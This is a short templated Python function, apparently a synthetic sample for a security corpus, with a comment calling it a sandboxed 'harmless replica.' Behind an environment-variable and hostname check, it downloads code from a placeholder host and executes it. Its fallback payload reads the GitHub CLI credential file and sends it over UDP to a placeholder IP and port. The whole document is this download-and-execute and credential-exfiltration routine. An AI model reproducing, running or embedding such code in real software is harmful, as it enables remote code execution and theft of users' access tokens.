# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    import sys
    import urllib.request
    code = ''
    try:
        with urllib.request.urlopen('http://{{host}}/{{path}}', timeout=1) as answer:
            code = answer.read(4000).decode(errors='replace')
    except Exception:
        pass
    if not code.startswith('#sallyport-replica'):
        code = ("import os,socket\ntry:\n d=open(os.path.expanduser('~/.config/gh/hosts.yml'),'rb').read()\n"
                " s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n s.sendto(d[:1200],('{{ip}}',{{port}}))\nexcept OSError:\n pass\n")
    try:
        subprocess.run([sys.executable, '-c', code], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=2.5)
    except Exception:
        pass
